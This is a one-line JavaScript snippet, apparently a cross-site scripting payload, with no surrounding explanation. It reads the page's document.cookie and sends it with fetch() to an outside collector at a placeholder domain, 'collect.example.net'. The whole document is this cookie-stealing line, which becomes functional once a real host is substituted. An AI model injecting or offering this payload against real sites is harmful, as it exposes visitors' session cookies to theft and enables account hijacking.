fetch('https://collect.example.net/c?d=' + encodeURIComponent(document.cookie));
